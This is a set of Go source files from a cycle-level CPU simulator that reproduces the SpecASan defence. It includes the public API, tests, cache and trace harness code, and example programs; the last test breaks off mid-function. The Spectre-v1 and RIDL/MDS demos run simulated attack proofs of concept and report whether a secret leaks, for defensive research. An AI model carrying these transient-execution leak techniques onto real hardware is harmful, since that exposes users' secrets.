	copt := chaos.CampaignOptions{
		Scale: s.Run.Scale, MaxCycles: s.Run.MaxCycles, Workers: s.Run.Workers,
		ScenarioHash: hash, NoSkipIdle: !s.Run.SkipIdle,
		ParallelCores: s.Run.ParallelCores,
	}
	var metricsW io.Writer
	if *metricsOut != "" {
		f, err := os.Create(*metricsOut)
		if err != nil {
			fail("%v", err)
		}
		defer func() {
			if err := f.Close(); err != nil {
				fmt.Fprintln(os.Stderr, "specasan-chaos:", err)
			}
		}()
		metricsW = f
		copt.Metrics = metricsW
	}
	if *storeDir != "" {
		if *metricsOut != "" {
			fmt.Fprintln(os.Stderr, "specasan-chaos: -store ignored (-metrics-out runs must simulate)")
		} else {
			st, err := store.Open(*storeDir)
			if err != nil {
				fail("%v", err)
			}
			if st.ReadOnly() {
				fmt.Fprintf(os.Stderr, "specasan-chaos: store %s is read-only: serving cached results, not persisting new ones\n", *storeDir)
			}
			if removed, freed, err := st.Prune(*storeMaxBytes); err != nil {
				fmt.Fprintln(os.Stderr, "specasan-chaos:", err)
			} else if removed > 0 {
				fmt.Fprintf(os.Stderr, "specasan-chaos: store pruned %d entries (%d bytes) to fit -store-max-bytes=%d\n",
					removed, freed, *storeMaxBytes)
			}
			copt.Store = chaos.DiskCampaignStore{S: st}
			copt.ResultHash = s.ResultHash()
		}
	}

	reps, err := chaos.RunCampaignOpts(cells, copt)
	if err != nil {
		c := cells[len(reps)]
		fail("%s/%v: %v", c.Spec.Name, c.Mit, err)
	}

	runs, injected, failures := 0, uint64(0), 0
	for i, rep := range reps {
		c := cells[i]
		runs++
		injected += rep.Injected
		if *verbose {
			fmt.Printf("  %-16s %-12s seed=%-4d %-60s cycles=%-9d %s\n",
				c.Spec.Name, c.Mit, rep.Seed, kindSetName(c.Cfg.Kinds), rep.Cycles, rep.Summary)
		}
		if rep.Failed() {
			failures++
			fmt.Printf("DIVERGENCE %s under %v, seed %d, kinds %s (injected %d: %s):\n",
				c.Spec.Name, c.Mit, rep.Seed, kindSetName(c.Cfg.Kinds), rep.Injected, rep.Summary)
			for _, d := range rep.Divergence {
				fmt.Printf("  %s\n", d)
			}
		}
	}
	fmt.Printf("golden sweep: %d runs (%d workloads x %d mitigations x %d kind sets x %d seeds), %d faults injected, %d divergences\n",
		runs, len(specs), len(mits), kindSets, s.Chaos.Seeds, injected, failures)

	drifted := 0
	if *verdicts && s.Chaos.VerdictSeeds > 0 {
		for i := 0; i < s.Chaos.VerdictSeeds; i++ {
			seed := s.Chaos.Seed0 + uint64(i)
			drifts, err := chaos.CheckVerdictInvarianceParallel(seed, s.Chaos.Rate,
				attacks.TableMitigations(), s.Run.Workers)
			if err != nil {
				fail("verdict sweep: %v", err)
			}
			for _, d := range drifts {
				drifted++
				fmt.Printf("VERDICT DRIFT (seed %d): %s\n", seed, d)
			}
		}
		fmt.Printf("verdict sweep: %d attacks x %d mitigations x %d seeds, %d drifts\n",
			len(attacks.All()), len(attacks.TableMitigations()), s.Chaos.VerdictSeeds, drifted)
	}

	if *traceIdx >= 0 {
		if *traceIdx >= len(cells) {
			fail("-trace %d out of range (campaign has %d cells)", *traceIdx, len(cells))
		}
		c := cells[*traceIdx]
		// Chaos is seeded per cell, so this solo re-run reproduces the
		// campaign run exactly — the trace shows the same perturbed timeline.
		var tr *obs.Tracer
		if _, err := chaos.RunWorkload(c.Spec, c.Mit, c.Cfg, s.Run.Scale, s.Run.MaxCycles,
			func(m *cpu.Machine) {
				tr = obs.NewTracer(len(m.Cores), 0)
				m.AttachObs(tr, nil)
			}); err != nil {
			fail("tracing cell %d: %v", *traceIdx, err)
		}
		f, err := os.Create(*traceOut)
		if err != nil {
			fail("%v", err)
		}
		if err := obs.WriteChromeTrace(f, tr); err != nil {
			fail("%v", err)
		}
		if err := f.Close(); err != nil {
			fail("%v", err)
		}
		fmt.Printf("trace: cell %d (%s under %v, seed %d) -> %s (%d events, %d dropped)\n",
			*traceIdx, c.Spec.Name, c.Mit, c.Cfg.Seed, *traceOut, tr.Recorded(), tr.Dropped())
	}

	if failures > 0 || drifted > 0 {
		os.Exit(1)
	}
}

// splitList splits a comma-separated flag value, dropping empty parts (an
// empty value yields nil, which scenario fields read as "default set").
func splitList(csv string) []string {
	var out []string
	for _, p := range strings.Split(csv, ",") {
		if p = strings.TrimSpace(p); p != "" {
			out = append(out, p)
		}
	}
	return out
}

func kindSetName(ks []chaos.Kind) string {
	names := make([]string, len(ks))
	for i, k := range ks {
		names[i] = k.String()
	}
	return strings.Join(names, "+")
}
