// specasan-hw prints the Table 3 hardware-cost model: the area, static power
// and dynamic energy overheads of ARM MTE, SpecASan, and SpecASan+CFI on the
// affected core structures.
package main

import (
	"fmt"

	"specasan/internal/hwcost"
)

func main() {
	fmt.Print(hwcost.Format(hwcost.Model()))
}
