package specasan

import (
	"bytes"
	"strings"
	"testing"
)

func TestPublicAPIEndToEnd(t *testing.T) {
	prog := MustAssemble(`
_start:
    MOV X0, #6
    MOV X1, #7
    MUL X2, X0, X1
    MOV X0, X2
    SVC #1
    SVC #0
`)
	m, err := NewMachine(DefaultConfig(), SpecASan, prog)
	if err != nil {
		t.Fatal(err)
	}
	res := m.Run(100_000)
	if res.Faulted || res.TimedOut {
		t.Fatalf("run failed: %v", res)
	}
	if got := string(m.Core(0).Output); got != "42\n" {
		t.Fatalf("output = %q", got)
	}
	// The reference interpreter agrees.
	g := Interpret(prog, true, 100_000)
	if string(g.Output) != "42\n" {
		t.Fatalf("golden output = %q", g.Output)
	}
}

func TestPublicAttackRegistry(t *testing.T) {
	as := Attacks()
	if len(as) != 11 {
		t.Fatalf("attacks = %d, want the 11 Table 1 rows", len(as))
	}
	v, err := EvaluateAttack(as[0], SpecASan) // PHT
	if err != nil {
		t.Fatal(err)
	}
	if v.Word() != "full" {
		t.Fatalf("SpecASan on PHT = %s", v.Word())
	}
}

func TestPublicKernelRegistries(t *testing.T) {
	if len(SPECKernels()) != 15 || len(PARSECKernels()) != 7 {
		t.Fatal("kernel registries wrong")
	}
	r, err := RunBenchmark(SPECKernels()[3], Unsafe, 0.02) // namd
	if err != nil {
		t.Fatal(err)
	}
	if r.Cycles == 0 {
		t.Fatal("empty result")
	}
}

func TestPublicSecurityMatrixWriter(t *testing.T) {
	if testing.Short() {
		t.Skip("full matrix")
	}
	var buf bytes.Buffer
	if err := SecurityMatrix(&buf); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "SpecASan") {
		t.Fatal("matrix output incomplete")
	}
}

func TestHardwareCostTableRenders(t *testing.T) {
	out := HardwareCostTable()
	if !strings.Contains(out, "Total Core") {
		t.Fatal("table incomplete")
	}
}
