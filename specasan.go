// Package specasan is the public API of the SpecASan reproduction: a
// cycle-level out-of-order CPU simulator with an ARM-MTE model, the
// Speculative Address Sanitization mechanism from the ISCA 2025 paper, the
// baseline mitigations it is compared against (speculative barriers, STT,
// GhostMinion, SpecCFI), the Table 1 attack suite, and the benchmark kernels
// behind Figures 6-9.
//
// Quick start:
//
//	prog := specasan.MustAssemble(`
//	_start:
//	    MOV X0, #41
//	    ADD X0, X0, #1
//	    SVC #0
//	`)
//	m, err := specasan.NewMachine(specasan.DefaultConfig(), specasan.SpecASan, prog)
//	if err != nil { ... }
//	res := m.Run(1_000_000)
//
// The deeper layers are exposed for power users: internal/cpu (pipeline),
// internal/cache (hierarchy), internal/attacks (PoCs), internal/workloads
// (kernels), internal/harness (experiment sweeps).
package specasan

import (
	"io"

	"specasan/internal/asm"
	"specasan/internal/attacks"
	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/golden"
	"specasan/internal/harness"
	"specasan/internal/hwcost"
	"specasan/internal/isa"
	"specasan/internal/scenario"
	"specasan/internal/workloads"
)

// Re-exported core types. Machine is a complete simulated system; Config is
// the Table 2 microarchitecture; Mitigation selects the defence.
type (
	// Machine is a simulated multi-core system.
	Machine = cpu.Machine
	// RunResult summarises a completed simulation.
	RunResult = cpu.RunResult
	// Config is the simulated CPU configuration (Table 2 defaults).
	Config = core.Config
	// Mitigation selects the transient-execution defence.
	Mitigation = core.Mitigation
	// Program is an assembled program.
	Program = asm.Program
	// Reg is an architectural register (X0..X30, XZR, SP).
	Reg = isa.Reg
	// PolicyDescriptor describes a mitigation as registry data: name,
	// defence class, the behaviour bits the pipeline reads, numeric knobs.
	PolicyDescriptor = core.PolicyDescriptor
	// Scenario is a declarative, hashable experiment description.
	Scenario = scenario.Scenario
)

// Mitigation configurations (see core.Mitigation).
const (
	Unsafe      = core.Unsafe      // no protection: the normalisation baseline
	MTE         = core.MTE         // committed-path tag checks only
	Fence       = core.Fence       // speculative barriers (delay-ACCESS)
	STT         = core.STT         // speculative taint tracking (delay-USE)
	GhostMinion = core.GhostMinion // shadow fill structure (delay-TRANSMIT)
	SpecCFI     = core.SpecCFI     // speculative control-flow integrity
	SpecASan    = core.SpecASan    // this paper: speculative MTE enforcement
	SpecASanCFI = core.SpecASanCFI // SpecASan + SpecCFI
)

// DefaultConfig returns the paper's Table 2 configuration.
func DefaultConfig() Config { return core.DefaultConfig() }

// RegisterPolicy registers a new mitigation described purely by descriptor
// data; the pipeline reads its behaviour bits, never its identity.
func RegisterPolicy(d PolicyDescriptor) (Mitigation, error) { return core.RegisterPolicy(d) }

// ParseMitigation resolves a registered mitigation by name
// (case-insensitive).
func ParseMitigation(name string) (Mitigation, error) { return core.ParseMitigation(name) }

// LoadScenario resolves a preset name or scenario file into a validated
// Scenario (see internal/scenario for presets and layering semantics).
func LoadScenario(nameOrPath string) (*Scenario, error) { return scenario.Load(nameOrPath) }

// NewMachine builds a simulated machine running prog under the mitigation.
func NewMachine(cfg Config, mit Mitigation, prog *Program) (*Machine, error) {
	return cpu.NewMachine(cfg, mit, prog)
}

// Assemble translates assembly text into a Program.
func Assemble(src string) (*Program, error) { return asm.Assemble(src) }

// MustAssemble is Assemble, panicking on error.
func MustAssemble(src string) *Program { return asm.MustAssemble(src) }

// Interpret runs a program on the functional reference interpreter (no
// speculation, no timing) and returns its final state. mteOn enforces
// committed-path tag checks.
func Interpret(prog *Program, mteOn bool, maxInsts uint64) *golden.Result {
	ip := golden.New(prog)
	ip.MTEOn = mteOn
	ip.TagSeed = cpu.TagSeedBase
	return ip.Run(maxInsts)
}

// Attacks returns the Table 1 attack suite (11 transient-execution attack
// variants, each with one or more gadget flavours).
func Attacks() []*attacks.Attack { return attacks.All() }

// EvaluateAttack runs every variant of an attack under a mitigation and
// returns the Table 1 verdict.
func EvaluateAttack(a *attacks.Attack, mit Mitigation) (attacks.Verdict, error) {
	v, _, err := a.Evaluate(mit)
	return v, err
}

// SecurityMatrix writes the full empirical Table 1 to w.
func SecurityMatrix(w io.Writer) error { return harness.SecurityMatrix(w) }

// SPECKernels returns the fifteen SPEC CPU2017-like benchmark kernels.
func SPECKernels() []*workloads.Spec { return workloads.SPEC() }

// PARSECKernels returns the seven PARSEC-like multi-threaded kernels.
func PARSECKernels() []*workloads.Spec { return workloads.PARSEC() }

// RunBenchmark executes one kernel under one mitigation.
func RunBenchmark(spec *workloads.Spec, mit Mitigation, scale float64) (*harness.PerfResult, error) {
	opt := harness.DefaultOptions()
	opt.Scale = scale
	return harness.RunBenchmark(spec, mit, opt)
}

// HardwareCostTable returns the Table 3 hardware-cost model output.
func HardwareCostTable() string { return hwcost.Format(hwcost.Model()) }

// Version identifies this reproduction.
const Version = "1.0.0"
