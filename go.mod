module specasan

go 1.22
