// spectre_v1_demo walks through Figure 5 of the paper: the Spectre-v1 PoC
// of Listing 1 running once on an unprotected core (the secret-dependent
// probe line lands in the cache) and once under SpecASan (the speculative
// out-of-bounds load gets tcs=unsafe, no data returns, the transmit never
// happens). The pipeline trace printed for the SpecASan run shows the
// mechanism's steps: the unsafe signal, the delay, and the squash.
package main

import (
	"fmt"
	"strings"

	"specasan"
	"specasan/internal/attacks"
	"specasan/internal/core"
	"specasan/internal/cpu"
)

func main() {
	poc := attacks.SpectrePHT().Variants[0]

	fmt.Println("=== Spectre-v1 on the unprotected baseline ===")
	runOnce(poc, specasan.Unsafe, false)

	fmt.Println()
	fmt.Println("=== Spectre-v1 under plain MTE (committed-path checks only) ===")
	runOnce(poc, specasan.MTE, false)

	fmt.Println()
	fmt.Println("=== Spectre-v1 under SpecASan (trace of the blocking sequence) ===")
	runOnce(poc, specasan.SpecASan, true)
}

func runOnce(v attacks.Variant, mit core.Mitigation, trace bool) {
	sc, err := v.Build()
	if err != nil {
		panic(err)
	}
	m, err := cpu.NewMachine(core.DefaultConfig(), mit, sc.Prog)
	if err != nil {
		panic(err)
	}
	sc.Setup(m)
	if trace {
		// Only show the interesting tail: the OOB iteration.
		var lines []string
		m.Core(0).TraceFn = func(f string, a ...any) {
			lines = append(lines, fmt.Sprintf(f, a...))
			if len(lines) > 400 {
				lines = lines[1:]
			}
		}
		defer func() {
			shown := 0
			for _, l := range lines {
				if strings.Contains(l, "unsafe") || strings.Contains(l, "MISPREDICT") ||
					strings.Contains(l, "squash") || strings.Contains(l, "0x100080") {
					fmt.Println(" ", l)
					shown++
				}
			}
			if shown == 0 {
				fmt.Println("  (no unsafe accesses: nothing to block)")
			}
		}()
	}
	res := m.Run(2_000_000)
	fmt.Printf("  cycles=%d committed=%d\n", res.Cycles, res.Committed)
	fmt.Printf("  speculative secret reads : %d\n", m.Oracle.SecretReads)
	fmt.Printf("  leak events              : %d", len(m.Oracle.Events()))
	if m.Oracle.Leaked() {
		fmt.Printf("  -> SECRET LEAKED (probe line cached, recoverable by Flush+Reload)")
	} else {
		fmt.Printf("  -> no microarchitectural trace of the secret")
	}
	fmt.Println()
}
