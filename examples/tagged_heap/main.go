// tagged_heap demonstrates the MTE software contract SpecASan builds on: a
// small heap allocator that colours allocations with IRG/STG and retags on
// free, running on the simulated core. Spatial (out-of-bounds) and temporal
// (use-after-free) violations both become tag-check faults.
package main

import (
	"fmt"

	"specasan"
)

// The "allocator" is written in the simulated ISA: alloc tags a block and
// returns a keyed pointer; free retags the block so stale pointers die.
const src = `
_start:
    ADR  X19, heap

    // p = alloc(32): colour two granules, return keyed pointer in X20.
    IRG  X20, X19
    STG  X20, [X20]
    ADDG X1, X20, #16, #0
    STG  X1, [X1]

    // use p: fine.
    MOV  X2, #1234
    STR  X2, [X20]
    LDR  X3, [X20]
    MOV  X0, X3
    SVC  #1                 // prints 1234

    // free(p): retag both granules with a fresh colour (exclude p's key
    // so the new colour is guaranteed different).
    GMI  X4, X20, XZR       // exclusion mask from p's key
    IRG  X21, X19, X4       // fresh colour
    STG  X21, [X21]
    ADDG X1, X21, #16, #0
    STG  X1, [X1]

    // use-after-free through the stale pointer: tag-check fault.
    LDR  X5, [X20]
    SVC  #0

    .org 0x40000
heap:
    .space 64
`

func main() {
	prog := specasan.MustAssemble(src)
	m, err := specasan.NewMachine(specasan.DefaultConfig(), specasan.SpecASan, prog)
	if err != nil {
		panic(err)
	}
	res := m.Run(1_000_000)
	fmt.Printf("output: %q\n", m.Core(0).Output)
	if res.Faulted {
		fmt.Printf("use-after-free caught: tag-check fault at pc=%#x\n", m.Core(0).FaultPC)
	} else {
		fmt.Println("UNEXPECTED: the dangling load went through")
	}

	// The same binary on the functional reference interpreter agrees.
	g := specasan.Interpret(prog, true, 1_000_000)
	fmt.Printf("reference interpreter: %v at pc=%#x\n", g.Reason, g.FaultPC)
}
