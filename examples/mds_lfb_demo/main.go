// mds_lfb_demo shows the line-fill-buffer leak of RIDL/ZombieLoad and how
// SpecASan's tagged LFB stops it: an assisted (faulting) load transiently
// samples the victim's in-flight cache line on the baseline, while under
// SpecASan the LFB forward requires the pointer key to match the line's
// allocation tag — which the attacker does not have.
package main

import (
	"fmt"

	"specasan"
	"specasan/internal/attacks"
	"specasan/internal/core"
	"specasan/internal/cpu"
)

func main() {
	poc := attacks.RIDL().Variants[0]
	for _, mit := range []core.Mitigation{specasan.Unsafe, specasan.STT,
		specasan.GhostMinion, specasan.SpecASan} {
		sc, err := poc.Build()
		if err != nil {
			panic(err)
		}
		m, err := cpu.NewMachine(core.DefaultConfig(), mit, sc.Prog)
		if err != nil {
			panic(err)
		}
		sc.Setup(m)
		res := m.Run(2_000_000)
		fmt.Printf("%-13s stale LFB forwards=%d  secret reads=%d  leak events=%d",
			mit, res.Stats.Get("mds_stale_forwards"), m.Oracle.SecretReads,
			len(m.Oracle.Events()))
		if m.Oracle.Leaked() {
			fmt.Println("  -> LEAKED")
		} else {
			fmt.Println("  -> blocked")
		}
	}
	fmt.Println()
	fmt.Println("STT and GhostMinion scope their protection to prediction-based")
	fmt.Println("speculation, so the fault-window sampling goes through; SpecASan's")
	fmt.Println("LFB tag check refuses the forward outright (paper §3.3.3, §4.1).")
}
