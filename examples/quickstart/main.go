// Quickstart: assemble a small MTE-tagged program, run it on the simulated
// out-of-order core under SpecASan, and watch the committed-path tag check
// catch an out-of-bounds access.
package main

import (
	"fmt"

	"specasan"
)

func main() {
	// A tiny allocator story: tag a 32-byte heap block, write and read it
	// through the tagged pointer, then step one granule past the end.
	prog := specasan.MustAssemble(`
_start:
    ADR  X0, heap
    IRG  X1, X0          // pick a random allocation tag (key)
    STG  X1, [X1]        // lock granule 0
    ADDG X2, X1, #16, #0
    STG  X2, [X2]        // lock granule 1

    MOV  X3, #42
    STR  X3, [X1]        // in-bounds store: key matches lock
    LDR  X4, [X1]        // in-bounds load
    MOV  X0, X4
    SVC  #1              // print 42

    ADDG X5, X1, #32, #0 // one granule past the allocation
    LDR  X6, [X5]        // out-of-bounds: tag mismatch -> fault
    SVC  #0

    .org 0x40000
heap:
    .space 64
`)

	fmt.Println("running under SpecASan (MTE enforced on speculative and committed paths)")
	m, err := specasan.NewMachine(specasan.DefaultConfig(), specasan.SpecASan, prog)
	if err != nil {
		panic(err)
	}
	res := m.Run(1_000_000)
	fmt.Printf("  program output: %q\n", m.Core(0).Output)
	fmt.Printf("  faulted: %v (tag-check fault at the OOB load, pc=%#x)\n",
		res.Faulted, m.Core(0).FaultPC)

	fmt.Println("\nrunning the same program with no protection (Unsafe)")
	m2, err := specasan.NewMachine(specasan.DefaultConfig(), specasan.Unsafe, prog)
	if err != nil {
		panic(err)
	}
	res2 := m2.Run(1_000_000)
	fmt.Printf("  program output: %q\n", m2.Core(0).Output)
	fmt.Printf("  faulted: %v (the OOB access went through silently)\n", res2.Faulted)
}
