package harness

// Trace record/replay plumbing: the harness side of the record-once/
// replay-many frontier. resolveTrace applies the Options trace knobs to one
// cell's spec before it runs — loading, recording, or refusing as the knobs
// demand — and specFrontend turns the (possibly trace-backed) spec into the
// instruction-stream frontend both the detailed machine and the sampled
// path fetch from.

import (
	"fmt"

	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/trace"
	"specasan/internal/workloads"
)

// ResolveTrace applies TraceRecord/TraceReplay to one cell. It returns the
// spec to actually run: the original when tracing is off (or the spec is a
// source override, which has no registry identity to key a trace under), a
// trace-backed copy when replaying. Recording is idempotent per identity —
// a stored recording is never re-recorded — and concurrent sweep cells that
// race to record the same identity both write the same bytes (the store's
// put is atomic), so the race costs a duplicate walk, never a wrong trace.
// RunBenchmark calls this itself; it is exported for CLIs that build
// machines by hand (specasan-sim's instrumented path).
func ResolveTrace(spec *workloads.Spec, mit core.Mitigation, opt Options) (*workloads.Spec, error) {
	if spec.Trace != nil || (!opt.TraceRecord && !opt.TraceReplay) || spec.Source != "" {
		return spec, nil
	}
	if opt.Artifacts == nil {
		return nil, fmt.Errorf("%s: trace record/replay requires an artifact store", spec.Name)
	}
	tagged := mit.MTEEnabled()
	id := spec.TraceIdentity(tagged, opt.Scale)
	t, ok, err := trace.Load(opt.Artifacts, id)
	if err != nil {
		if !trace.IsCorrupt(err) {
			return nil, fmt.Errorf("%s: loading trace: %w", spec.Name, err)
		}
		// Corrupt or mislabelled entries have been quarantined (or rejected)
		// and read as misses: re-record below if allowed, fail loudly if not.
		opt.logf("  %-18s %-12s trace rejected, treating as miss: %v", spec.Name, mit, err)
	}
	if !ok {
		if !opt.TraceRecord {
			return nil, fmt.Errorf("%s: no recorded trace for %s (threads=%d tagged=%v scale=%g); run with trace recording enabled first",
				spec.Name, id.Workload, id.Threads, id.Tagged, id.Scale)
		}
		t, err = spec.RecordTrace(tagged, opt.Scale, trace.RecordConfig{
			MaxInsts: functionalBudget(opt.MaxCycles),
			MTEOn:    tagged,
			TagSeed:  cpu.TagSeedBase,
		})
		if err != nil {
			return nil, err
		}
		if err := trace.Save(opt.Artifacts, t); err != nil {
			// Recording is a cache fill: a read-only or full store must not
			// fail the run that produced the trace.
			opt.logf("  %-18s %-12s trace not saved: %v", spec.Name, mit, err)
		} else {
			opt.logf("  %-18s %-12s trace recorded (%d insts)", spec.Name, mit, t.Meta.Insts)
		}
	}
	if !opt.TraceReplay {
		return spec, nil // record-only: the run itself still live-decodes
	}
	opt.logf("  %-18s %-12s replaying trace (%d insts recorded)", spec.Name, mit, t.Meta.Insts)
	return spec.WithTrace(t), nil
}

// specFrontend resolves the cell's instruction-stream source: the recorded
// trace's replay frontend when the spec is trace-backed, the freshly
// assembled program otherwise. Errors carry the spec name.
func specFrontend(spec *workloads.Spec, mit core.Mitigation, opt Options) (cpu.Frontend, error) {
	if spec.Trace != nil {
		if err := spec.CheckTrace(mit.MTEEnabled(), opt.Scale); err != nil {
			return nil, err
		}
		fe, err := spec.Trace.Frontend()
		if err != nil {
			return nil, fmt.Errorf("%s: %w", spec.Name, err)
		}
		return fe, nil
	}
	prog, err := spec.Build(mit.MTEEnabled(), opt.Scale)
	if err != nil {
		return nil, fmt.Errorf("%s: %w", spec.Name, err)
	}
	return cpu.AssembledFrontend{Prog: prog}, nil
}
