package harness

import (
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"specasan/internal/core"
	"specasan/internal/cpu"
	"specasan/internal/scenario"
	"specasan/internal/store"
	"specasan/internal/workloads"
)

func testStore(t *testing.T) (DiskCellStore, string) {
	t.Helper()
	dir := t.TempDir()
	s, err := store.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	return DiskCellStore{S: s}, dir
}

func cacheOpts(t *testing.T, cs CellStore) Options {
	t.Helper()
	opt := DefaultOptions()
	opt.Scale = 0.02
	opt.MaxCycles = 20_000_000
	opt.Store = cs
	opt.ResultHash = scenario.Default().ResultHash()
	return opt
}

// formatSweep renders every table a sweep feeds, the byte-level surface the
// cache must reproduce.
func formatSweep(sw *Sweep) string {
	return sw.FormatNormalized("t") + sw.FormatRestricted("t")
}

func TestCellCacheHitIsByteIdentical(t *testing.T) {
	cs, _ := testStore(t)
	spec := workloads.ByName("511.povray_r")
	mits := []core.Mitigation{core.Unsafe, core.SpecASan}
	opt := cacheOpts(t, cs)

	cold, err := RunSweep([]*workloads.Spec{spec}, mits, opt)
	if err != nil {
		t.Fatal(err)
	}
	if got := cs.S.Stats().Puts; got != 2 {
		t.Fatalf("cold sweep stored %d cells, want 2", got)
	}

	warm, err := RunSweep([]*workloads.Spec{spec}, mits, opt)
	if err != nil {
		t.Fatal(err)
	}
	if hits := cs.S.Stats().Hits; hits != 2 {
		t.Fatalf("warm sweep hit %d cells, want 2", hits)
	}
	if a, b := formatSweep(cold), formatSweep(warm); a != b {
		t.Fatalf("cached tables differ:\n--- cold\n%s--- warm\n%s", a, b)
	}
	// The underlying stored payloads are canonical: re-put of the warm
	// result would be byte-identical (verified via marshal).
	cr := CellResultOf(warm.Results[spec.Name][core.SpecASan])
	b1, _ := json.Marshal(cr)
	b2, _ := json.Marshal(CellResultOf(cold.Results[spec.Name][core.SpecASan]))
	if !bytes.Equal(b1, b2) {
		t.Fatalf("canonical payloads differ:\n%s\n%s", b1, b2)
	}
}

func TestCellCacheServedWithoutSimulation(t *testing.T) {
	cs, _ := testStore(t)
	spec := workloads.ByName("511.povray_r")
	opt := cacheOpts(t, cs)
	if _, cached, err := RunCell(spec, core.Unsafe, opt); err != nil || cached {
		t.Fatalf("cold run: cached=%v err=%v", cached, err)
	}
	// Second run must come from the store: report cached=true and perform
	// zero additional puts.
	puts := cs.S.Stats().Puts
	r, cached, err := RunCell(spec, core.Unsafe, opt)
	if err != nil || !cached {
		t.Fatalf("warm run: cached=%v err=%v", cached, err)
	}
	if cs.S.Stats().Puts != puts {
		t.Fatalf("warm run wrote to the store")
	}
	if r.Cycles == 0 || r.Stats.Get("restricted_commits") != r.Restricted {
		t.Fatalf("rehydrated result malformed: %+v", r)
	}
}

func TestCorruptedEntryQuarantinedAndResimulated(t *testing.T) {
	cs, dir := testStore(t)
	spec := workloads.ByName("511.povray_r")
	opt := cacheOpts(t, cs)
	cold, _, err := RunCell(spec, core.Unsafe, opt)
	if err != nil {
		t.Fatal(err)
	}
	// Flip one payload bit in the single stored entry.
	var entry string
	filepath.Walk(dir, func(p string, info os.FileInfo, err error) error {
		if err == nil && strings.HasSuffix(p, ".entry") {
			entry = p
		}
		return nil
	})
	if entry == "" {
		t.Fatal("no entry written")
	}
	b, err := os.ReadFile(entry)
	if err != nil {
		t.Fatal(err)
	}
	b[len(b)-2] ^= 0x04
	if err := os.WriteFile(entry, b, 0o644); err != nil {
		t.Fatal(err)
	}

	r, cached, err := RunCell(spec, core.Unsafe, opt)
	if err != nil {
		t.Fatalf("re-simulation after corruption failed: %v", err)
	}
	if cached {
		t.Fatal("corrupt entry was served")
	}
	if r.Cycles != cold.Cycles || r.Committed != cold.Committed {
		t.Fatalf("re-simulated result diverged: %d/%d vs %d/%d",
			r.Cycles, r.Committed, cold.Cycles, cold.Committed)
	}
	n := cs.S.Stats()
	if n.Quarantined != 1 {
		t.Fatalf("corrupt entry not quarantined: %+v", n)
	}
	// The re-simulation healed the cache: next run hits.
	if _, cached, err := RunCell(spec, core.Unsafe, opt); err != nil || !cached {
		t.Fatalf("cache not healed: cached=%v err=%v", cached, err)
	}
}

func TestInstrumentedCellsBypassCache(t *testing.T) {
	cs, _ := testStore(t)
	spec := workloads.ByName("511.povray_r")
	opt := cacheOpts(t, cs)
	var metrics bytes.Buffer
	opt.Metrics = &metrics
	if _, cached, err := RunCell(spec, core.Unsafe, opt); err != nil || cached {
		t.Fatalf("instrumented run: cached=%v err=%v", cached, err)
	}
	if n := cs.S.Stats(); n.Puts != 0 || n.Hits != 0 {
		t.Fatalf("instrumented run touched the cache: %+v", n)
	}
	if metrics.Len() == 0 {
		t.Fatal("metrics stream empty")
	}
}

func TestCacheDisabledWithoutResultHash(t *testing.T) {
	cs, _ := testStore(t)
	spec := workloads.ByName("511.povray_r")
	opt := cacheOpts(t, cs)
	opt.ResultHash = ""
	if _, cached, err := RunCell(spec, core.Unsafe, opt); err != nil || cached {
		t.Fatalf("run: cached=%v err=%v", cached, err)
	}
	if n := cs.S.Stats(); n.Puts != 0 {
		t.Fatalf("unkeyed run wrote to the cache: %+v", n)
	}
}

// A Source-override spec's program text lives outside the scenario hash, so
// (ResultHash, name) does not pin its identity — it must never be cached.
func TestSourceOverrideSpecsBypassCache(t *testing.T) {
	cs, _ := testStore(t)
	spec := &workloads.Spec{Name: "inline", Suite: "test", Threads: 1, Source: `
_start:
    MOV X0, #1
    HLT
`}
	opt := cacheOpts(t, cs)
	if _, cached, err := RunCell(spec, core.Unsafe, opt); err != nil || cached {
		t.Fatalf("source-override run: cached=%v err=%v", cached, err)
	}
	if n := cs.S.Stats(); n.Puts != 0 || n.Hits != 0 {
		t.Fatalf("source-override run touched the cache: %+v", n)
	}
}

func TestDifferentResultHashesDoNotShareCells(t *testing.T) {
	cs, _ := testStore(t)
	spec := workloads.ByName("511.povray_r")
	opt := cacheOpts(t, cs)
	if _, _, err := RunCell(spec, core.Unsafe, opt); err != nil {
		t.Fatal(err)
	}
	s2 := scenario.Default()
	s2.Run.Scale = 0.01 // semantically different context
	opt2 := opt
	opt2.Scale = 0.01
	opt2.ResultHash = s2.ResultHash()
	if opt2.ResultHash == opt.ResultHash {
		t.Fatal("scale change should move the result hash")
	}
	if _, cached, err := RunCell(spec, core.Unsafe, opt2); err != nil || cached {
		t.Fatalf("cross-context cache hit: cached=%v err=%v", cached, err)
	}
}

func TestRetryPolicyKnobs(t *testing.T) {
	spec := workloads.ByName("511.povray_r")
	opt := DefaultOptions()
	opt.Scale = 0.02
	r, _, err := RunCell(spec, core.Unsafe, opt)
	if err != nil {
		t.Fatal(err)
	}
	// A budget the kernel misses cold but recovers at 2x on the second
	// escalation: factor 2, retries 2 ⇒ budgets B, 2B, 4B.
	opt.MaxCycles = r.Cycles/3 + 1
	opt.Retry = RetryPolicy{BudgetFactor: 2, MaxRetries: 2}
	if _, _, err := RunCell(spec, core.Unsafe, opt); err != nil {
		t.Fatalf("2-retry policy did not recover: %v", err)
	}
	// Retries disabled: the same budget must fail outright.
	opt.Retry = RetryPolicy{MaxRetries: -1}
	if _, _, err := RunCell(spec, core.Unsafe, opt); !errors.Is(err, ErrTimedOut) {
		t.Fatalf("retries-off run: %v", err)
	}
	// Scenario mapping: max_retries 0 means none, knobs flow through.
	s := scenario.Default()
	s.Run.MaxRetries = 0
	if f, n := OptionsFromScenario(s).Retry.normalized(); n != 0 {
		t.Fatalf("scenario max_retries=0 mapped to %d retries (factor %d)", n, f)
	}
	s.Run.MaxRetries = 3
	s.Run.RetryBudgetFactor = 7
	if f, n := OptionsFromScenario(s).Retry.normalized(); n != 3 || f != 7 {
		t.Fatalf("scenario knobs mapped to factor=%d retries=%d", f, n)
	}
}

func TestRunCellRecoversPanics(t *testing.T) {
	// An Attach hook that panics stands in for any bug inside the cell: the
	// panic must come back as an error carrying the cell identity and a
	// stack, never escape, and never poison the cache (Attach set already
	// makes the cell uncacheable, so the store stays untouched too).
	spec := workloads.ByName("511.povray_r")
	opt := DefaultOptions()
